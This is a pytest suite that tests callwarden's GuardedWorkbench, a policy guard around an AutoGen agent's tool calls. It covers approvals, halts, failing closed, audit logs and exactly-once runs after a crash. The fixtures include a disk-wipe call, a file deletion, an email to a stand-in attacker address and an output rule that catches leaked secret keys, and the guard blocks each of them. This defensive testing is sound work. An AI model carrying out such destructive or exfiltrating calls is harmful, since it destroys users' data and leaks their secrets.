"""AutoGen 0.7: a real AssistantAgent with a scripted model, its tools behind GuardedWorkbench."""

from __future__ import annotations

import asyncio
import json
import re
from typing import Any

import pytest
from _autogen_support import (
    POLICY,
    SECRET,
    Tools,
    asks,
    assistant,
    call,
    guarded,
    mailer,
    model,
    results_seen,
)
from _readme import ReadmeSection
from _scenario import REQUEST_POLICY
from autogen_agentchat.base import TaskResult
from autogen_agentchat.conditions import MaxMessageTermination
from autogen_agentchat.messages import ToolCallExecutionEvent
from autogen_agentchat.teams import RoundRobinGroupChat
from autogen_core.model_context import UnboundedChatCompletionContext
from autogen_core.tools import (
    FunctionTool,
    StaticStreamWorkbench,
    StaticWorkbench,
    TextResultContent,
    ToolResult,
)

from callwarden import Approve, Deny, Guard
from callwarden.adapters.autogen import CallwardenHaltTermination, GuardedWorkbench

README = ReadmeSection("AutoGen")
TIMEOUT = 10  # a hang fails the test instead of blocking the suite

ONE_TURN = asks(call("c1", "read_file", path="notes.txt"),
                call("c2", "delete_file", path="notes.txt"),
                call("c3", "search", query="callwarden", limit=50),
                call("c4", "deploy", env="qa"),
                call("c5", "wipe_disk", device="sda"))


async def run_one_turn(tools: Tools, **options: Any) -> dict[str, Any]:
    """The issue's scenario through agent.run(): returns what the model received back."""
    client = model(ONE_TURN, "All done.")
    agent = assistant(guarded(tools, **options), client, reflect_on_tool_use=True)
    await asyncio.wait_for(agent.run(task="tidy up"), TIMEOUT)
    return results_seen(client)


# -- the one-turn scenario --------------------------------------------------------------------

async def test_allowed_call_runs_and_the_model_gets_its_result() -> None:
    tools = Tools()
    seen = await run_one_turn(tools, approver=lambda request: True)
    assert ("read_file", {"path": "notes.txt"}) in tools.ran
    assert (seen["c1"].content, seen["c1"].is_error) == ("contents of notes.txt", False)


async def test_denied_tool_never_runs_and_the_model_gets_the_rule_message() -> None:
    tools = Tools()
    seen = await run_one_turn(tools, approver=lambda request: True)
    assert "delete_file" not in tools.names()
    assert seen["c2"].is_error
    assert seen["c2"].content == "Deleting files is not allowed; move them to trash/ instead."


async def test_rewritten_call_runs_with_the_rewritten_args() -> None:
    tools = Tools()
    seen = await run_one_turn(tools, approver=lambda request: True)
    assert ("search", {"query": "callwarden", "limit": 5}) in tools.ran
    assert seen["c3"].content == "5 results for callwarden"


async def test_halting_call_never_runs_and_the_model_is_told_the_run_halted() -> None:
    tools = Tools()
    seen = await run_one_turn(tools, approver=lambda request: True)
    assert "wipe_disk" not in tools.names()
    assert seen["c5"].is_error and seen["c5"].content.startswith("callwarden halted the run")
    assert "Wiping disks ends the session." in seen["c5"].content


@pytest.mark.parametrize("kind", ["sync", "async"])
async def test_approver_approval_runs_the_call_once(kind: str) -> None:
    asked: list[str] = []

    def approve(request: Any) -> Approve:
        asked.append(request.tool)
        return Approve(by="alice")

    async def aapprove(request: Any) -> Approve:
        return approve(request)

    tools = Tools()
    seen = await run_one_turn(tools, approver=approve if kind == "sync" else aapprove)
    assert asked == ["deploy"]
    assert tools.ran.count(("deploy", {"env": "qa"})) == 1
    assert seen["c4"].content == "deployed to qa"


@pytest.mark.parametrize("kind", ["sync", "async"])
async def test_approver_rejection_gives_the_model_the_reason(kind: str) -> None:
    def reject(request: Any) -> Deny:
        return Deny(reason="freeze until Monday", by="alice")

    async def areject(request: Any) -> Deny:
        return reject(request)

    tools = Tools()
    seen = await run_one_turn(tools, approver=reject if kind == "sync" else areject)
    assert "deploy" not in tools.names()
    assert seen["c4"].is_error and "alice denied it: freeze until Monday" in seen["c4"].content


async def test_halting_call_stops_a_team_run_through_the_termination_condition() -> None:
    tools = Tools()
    wb = guarded(tools, approver=lambda request: True)
    # Without the halt condition this team would ask the model again and run out of script.
    team = RoundRobinGroupChat([assistant(wb, model(ONE_TURN))],
                               termination_condition=wb.halt_condition | MaxMessageTermination(20))
    result = await asyncio.wait_for(team.run(task="tidy up"), TIMEOUT)
    assert result.stop_reason is not None and "Wiping disks ends the session." in result.stop_reason
    assert "wipe_disk" not in tools.names() and wb.halted is not None


async def test_a_halted_team_stops_again_at_once_until_the_halt_is_cleared() -> None:
    tools = Tools()
    wb = guarded(tools)
    client = model(asks(call("c1", "wipe_disk", device="sda")),
                   asks(call("c2", "read_file", path="a.txt")))
    team = RoundRobinGroupChat([assistant(wb, client)], termination_condition=wb.halt_condition)
    await asyncio.wait_for(team.run(task="wipe"), TIMEOUT)
    again = await asyncio.wait_for(team.run(task="read"), TIMEOUT)
    assert "halted" in (again.stop_reason or "") and len(client.create_calls) == 1
    wb.clear_halt()
    team_after = RoundRobinGroupChat([assistant(wb, client)], max_turns=1)
    await asyncio.wait_for(team_after.run(task="read"), TIMEOUT)
    assert tools.names() == ["read_file"]


async def test_calls_after_a_halt_in_the_same_run_are_refused() -> None:
    tools = Tools()
    client = model(asks(call("c1", "wipe_disk", device="sda")),
                   asks(call("c2", "read_file", path="a.txt")), "stopping")
    agent = assistant(guarded(tools), client, max_tool_iterations=3)
    await asyncio.wait_for(agent.run(task="go"), TIMEOUT)
    assert tools.names() == []
    assert results_seen(client)["c2"].content.startswith("callwarden halted the run")


async def test_a_bare_agent_run_returns_after_a_halt_without_hanging() -> None:
    tools = Tools()
    wb = guarded(tools)
    agent = assistant(wb, model(asks(call("c1", "wipe_disk", device="sda"))))
    result = await asyncio.wait_for(agent.run(task="go"), TIMEOUT)
    assert "callwarden halted the run" in str(result.messages[-1].content)
    assert wb.halted is not None and wb.halted.rule == "stop-on-wipe"


async def test_run_stream_shows_the_decisions_in_the_execution_event() -> None:
    tools = Tools()
    agent = assistant(guarded(tools, approver=lambda request: True), model(ONE_TURN))
    events = []
    async for item in agent.run_stream(task="tidy up"):
        events.append(item)
    executed = next(e for e in events if isinstance(e, ToolCallExecutionEvent))
    by_id = {r.call_id: r for r in executed.content}
    assert by_id["c2"].is_error and not by_id["c3"].is_error
    assert isinstance(events[-1], TaskResult)
    assert sorted(tools.names()) == ["deploy", "read_file", "search"]


# -- approval without an approver: pending, then resumed ---------------------------------------

async def test_ask_without_approver_tells_the_model_the_pending_request_id() -> None:
    tools = Tools()
    wb = guarded(tools)
    client = model(asks(call("c1", "deploy", env="qa")), "waiting")
    await asyncio.wait_for(assistant(wb, client, reflect_on_tool_use=True).run(task="go"), TIMEOUT)
    text = results_seen(client)["c1"].content
    assert "deploy" not in tools.names() and wb.pending
    assert f"Approval request {wb.pending[0]} is pending" in text


async def test_a_pending_call_asked_again_reuses_the_same_request() -> None:
    tools = Tools()
    wb = guarded(tools)
    client = model(asks(call("c1", "deploy", env="qa")), asks(call("c2", "deploy", env="qa")))
    agent = assistant(wb, client)
    await agent.run(task="go")
    await agent.run(task="again")
    assert len(wb.enforcer.guard.approvals.list("pending")) == 1 and tools.names() == []


async def test_an_approved_pending_call_runs_once_when_asked_again() -> None:
    tools = Tools()
    wb = guarded(tools)
    client = model(*(asks(call(f"c{i}", "deploy", env="qa")) for i in range(3)))
    agent = assistant(wb, client)
    await agent.run(task="deploy")
    wb.enforcer.guard.approvals.approve(wb.pending[0], by="alice")  # = callwarden approvals approve
    await agent.run(task="it is approved")
    await agent.run(task="once more")
    assert tools.ran == [("deploy", {"env": "qa"})]
    assert len(wb.pending) == 1  # the third call is a new request


async def test_a_rejected_pending_call_gives_the_model_the_reason_when_asked_again() -> None:
    tools = Tools()
    wb = guarded(tools)
    client = model(asks(call("c1", "deploy", env="qa")), asks(call("c2", "deploy", env="qa")), "ok")
    agent = assistant(wb, client)
    await agent.run(task="deploy")
    await wb.answer(wb.pending[0], {"approve": False, "reason": "not today"}, by="alice")
    await agent.run(task="retry")
    await agent.run(task="what happened?")  # the model's next request carries the result
    assert tools.names() == []
    assert "not today" in results_seen(client)["c2"].content


async def test_wait_lets_an_answer_given_elsewhere_settle_the_call() -> None:
    tools = Tools()
    wb = guarded(tools, wait=TIMEOUT)
    approvals = wb.enforcer.guard.approvals

    async def reviewer() -> None:  # stands in for `callwarden approvals approve ID` elsewhere
        while not approvals.list("pending"):
            await asyncio.sleep(0.01)
        await approvals.aapprove(approvals.list("pending")[0].id, by="alice")

    agent = assistant(wb, model(asks(call("c1", "deploy", env="qa"))))
    await asyncio.wait_for(asyncio.gather(agent.run(task="deploy"), reviewer()), TIMEOUT)
    assert tools.ran == [("deploy", {"env": "qa"})]


async def test_a_team_pauses_on_a_pending_approval_when_asked_to() -> None:
    wb = guarded(Tools())
    team = RoundRobinGroupChat(
        [assistant(wb, model(asks(call("c1", "deploy", env="qa"))))],
        termination_condition=CallwardenHaltTermination(wb, on_pending=True))
    result = await asyncio.wait_for(team.run(task="deploy"), TIMEOUT)
    assert wb.pending[0] in (result.stop_reason or "")


# -- failing closed ---------------------------------------------------------------------------

async def test_a_policy_that_raises_fails_closed() -> None:
    def broken(call: Any, ctx: Any) -> Any:
        raise RuntimeError("policy bug")

    tools = Tools()
    wb = guarded(tools, Guard(rules=[], policies=[broken]))
    client = model(asks(call("c1", "read_file", path="a.txt")), "ok")
    await asyncio.wait_for(assistant(wb, client, reflect_on_tool_use=True).run(task="go"), TIMEOUT)
    assert tools.names() == [] and results_seen(client)["c1"].is_error


async def test_an_error_inside_the_adapter_fails_closed_without_hanging(monkeypatch) -> None:
    async def explode(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("store down")

    tools = Tools()
    wb = guarded(tools)
    monkeypatch.setattr(wb.enforcer.guard, "acheck", explode)
    client = model(asks(call("c1", "read_file", path="a.txt")), "ok")
    await asyncio.wait_for(assistant(wb, client, reflect_on_tool_use=True).run(task="go"), TIMEOUT)
    assert tools.names() == []
    assert "could not decide the call to 'read_file'" in results_seen(client)["c1"].content


class RaisingWorkbench(StaticWorkbench):
    """A workbench whose calls raise (an MCP server that went away)."""

    async def call_tool(self, *args: Any, **kwargs: Any) -> ToolResult:
        raise ConnectionError("server gone")


async def test_an_inner_workbench_that_raises_becomes_an_error_result_not_a_hang() -> None:
    wb = GuardedWorkbench(RaisingWorkbench(Tools().all()), POLICY)
    client = model(asks(call("c1", "read_file", path="a.txt")), "ok")
    await asyncio.wait_for(assistant(wb, client, reflect_on_tool_use=True).run(task="go"), TIMEOUT)
    assert "ConnectionError: server gone" in results_seen(client)["c1"].content


async def test_the_audit_log_shows_the_call_as_asked_and_its_outcome(tmp_path) -> None:
    log = tmp_path / "audit.jsonl"
    wb = guarded(Tools(), {**POLICY, "audit": {"sinks": [{"jsonl": str(log)}], "required": True}})
    client = model(asks(call("c3", "search", query="q", limit=50)))
    await asyncio.wait_for(assistant(wb, client).run(task="go"), TIMEOUT)
    wb.enforcer.guard.close()
    events = [json.loads(line) for line in log.read_text().splitlines()]
    assert [(e["type"], e["effect"], e["call_id"], e["framework"] if e["type"] == "decision"
             else e["status"]) for e in events] == [("decision", "modify", "c3", "autogen"),
                                                   ("outcome", "modify", "c3", "ok")]
    assert events[0]["args"] == {"query": "q", "limit": 50}


# -- output rules, the non-streaming path, the rest of the Workbench interface ---------------

async def test_output_rules_redact_the_result_before_the_model_sees_it() -> None:
    client = model(asks(call("c1", "read_file", path="config.ini")), "ok")
    agent = assistant(guarded(Tools()), client, reflect_on_tool_use=True)
    await asyncio.wait_for(agent.run(task="go"), TIMEOUT)
    content = results_seen(client)["c1"].content
    assert "9dKq3" not in content and "REDACTED" in content


async def test_an_output_halt_withholds_the_result_and_halts() -> None:
    policy = {"version": 1, "rules": [{"id": "leak", "on": "output", "if":
              "args.output.contains('secret_access_key')", "effect": "halt"}]}
    tools = Tools()
    wb = guarded(tools, policy)
    result = await wb.call_tool("read_file", {"path": "config.ini"})
    assert result.is_error and SECRET not in result.to_text() and wb.halted is not None


async def test_the_outcome_names_the_output_rule(tmp_path) -> None:
    log = tmp_path / "audit.jsonl"
    policy = {"version": 1, "audit": {"sinks": [{"jsonl": str(log)}]}, "rules": [
        {"id": "leak", "on": "output", "if": "args.output.contains('secret_access_key')",
         "effect": "deny", "message": "withheld"}]}
    wb = guarded(Tools(), policy)
    await wb.call_tool("read_file", {"path": "config.ini"})
    wb.enforcer.guard.close()
    [outcome] = [e for e in map(json.loads, log.read_text().splitlines())
                 if e["type"] == "outcome"]
    assert (outcome["status"], outcome["output_rule"]) == ("output_blocked", "leak")


async def test_call_tool_decides_on_the_non_streaming_path_too() -> None:
    tools = Tools()
    wb = GuardedWorkbench(StaticWorkbench(tools.all()), POLICY)
    denied = await wb.call_tool("delete_file", {"path": "x"})
    capped = await wb.call_tool("search", {"query": "q", "limit": 99})
    assert denied.is_error and capped.to_text() == "5 results for q"
    assert tools.ran == [("search", {"query": "q", "limit": 5})]


async def test_call_tool_stream_on_a_non_streaming_workbench_yields_one_result() -> None:
    wb = GuardedWorkbench(StaticWorkbench(Tools().all()), POLICY)
    events = [e async for e in wb.call_tool_stream("read_file", {"path": "a"})]
    assert [e.to_text() for e in events] == ["contents of a"]


async def test_list_tools_and_state_pass_through() -> None:
    inner = StaticStreamWorkbench(Tools().all())
    wb = GuardedWorkbench(inner, POLICY)
    assert await wb.list_tools() == await inner.list_tools()
    state = await wb.save_state()
    assert state == await inner.save_state()
    await wb.load_state(state)
    async with wb:
        assert wb.inner is inner


async def test_reset_clears_a_halt() -> None:
    wb = guarded(Tools())
    await wb.call_tool("wipe_disk", {"device": "sda"})
    await wb.reset()
    assert wb.halted is None
    assert (await wb.call_tool("read_file", {"path": "a"})).to_text() == "contents of a"


async def test_the_users_latest_message_is_the_request_the_policy_sees() -> None:
    """With the agent's model context, a recipient named in the task is allowed and a
    stranger is refused."""
    sent: list[str] = []
    context = UnboundedChatCompletionContext()
    client = model(asks(call("c1", "send_email", to="carol@example.org"),
                        call("c2", "send_email", to="eve@attacker.example")), "Done.")
    workbench = GuardedWorkbench(StaticStreamWorkbench([mailer(sent)]), REQUEST_POLICY,
                                 model_context=context)
    agent = assistant(workbench, client, model_context=context, reflect_on_tool_use=True)
    await asyncio.wait_for(agent.run(task="Mail Carol@Example.org the notes"), TIMEOUT)
    seen = results_seen(client)
    assert sent == ["carol@example.org"]
    assert (seen["c1"].content, seen["c1"].is_error) == ("sent to carol@example.org", False)
    assert seen["c2"].is_error and seen["c2"].content == "Mail only people the user named."


def test_only_a_workbench_can_be_guarded() -> None:
    with pytest.raises(TypeError, match="StaticStreamWorkbench"):
        GuardedWorkbench([TextResultContent(content="x")], POLICY)  # type: ignore[arg-type]


def test_a_guarded_workbench_refuses_to_be_serialized() -> None:
    with pytest.raises(NotImplementedError, match="wrap it again"):
        guarded(Tools()).dump_component()


# -- the README example ----------------------------------------------------------------------

def test_the_readme_example_runs_and_prints_what_it_says(tmp_path, monkeypatch, capsys) -> None:
    blocks = re.findall(r"```python\n(.*?)```", README.read_text(), re.S)
    assert len(blocks) == 1
    monkeypatch.chdir(tmp_path)
    exec(compile(blocks[0], str(README), "exec"), {"__name__": "__main__"})
    promised = [line[2:] for line in blocks[0].splitlines() if line.startswith("# ") and "->" in line]
    assert capsys.readouterr().out.splitlines() == promised


# -- exactly once across a crash ---------------------------------------------------------------

async def test_a_call_cut_off_inside_its_tool_is_in_doubt_when_a_resumed_team_asks_again(
        tmp_path) -> None:
    """The process stops inside the tool (its task is cancelled: no outcome is recorded); a
    new workbench on the same store, asked the same call under its id, does not run it: a
    person is asked, told it may have happened, and their approval runs it once."""
    policy = {"version": 1, "timeout": "60s", "state": f"sqlite:///{tmp_path / 'state.db'}",
              "audit": {"sinks": [{"jsonl": str(tmp_path / "audit.jsonl")}]},
              "tools": {"deploy": {"side_effect": "external"}}, "rules": []}
    ran: list[str] = []
    started = asyncio.Event()

    async def deploy(env: str) -> str:
        ran.append(env)
        started.set()
        await asyncio.Event().wait()  # the process dies here
        return "unreachable"

    async def deploy_again(env: str) -> str:
        ran.append(env)
        return f"deployed to {env}"

    def workbench(body: Any) -> GuardedWorkbench:
        tool = FunctionTool(body, description="deploy", name="deploy")
        return GuardedWorkbench(StaticStreamWorkbench([tool]), policy, agent="assistant",
                                session="s1")

    first = asyncio.ensure_future(assistant(workbench(deploy), model(
        asks(call("c1", "deploy", env="prod")), "ok")).run(task="deploy"))
    await asyncio.wait_for(started.wait(), TIMEOUT)
    first.cancel()
    with pytest.raises(asyncio.CancelledError):
        await first

    wb = workbench(deploy_again)  # the resumed run: the same call under the same id
    client = model(asks(call("c1", "deploy", env="prod")), asks(call("c2", "deploy", env="prod")),
                   "ok")
    agent = assistant(wb, client)
    resumed = await asyncio.wait_for(agent.run(task="deploy"), TIMEOUT)
    assert ran == ["prod"]
    (request_id,) = wb.pending
    request = wb.enforcer.guard.approvals.get(request_id)
    assert request is not None and request.in_doubt
    (result,) = next(m for m in resumed.messages if isinstance(m, ToolCallExecutionEvent)).content
    assert result.is_error and request_id in result.content and "not run" in result.content
    wb.enforcer.guard.approvals.approve(request_id, by="alice")
    await asyncio.wait_for(agent.run(task="it did not happen: deploy"), TIMEOUT)
    assert ran == ["prod", "prod"]
    events = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert [e["call_id"] for e in events if e.get("type") == "decision"
            and any(r.get("code") == "in_doubt" for r in e.get("reasons", ()))] == ["c1"]
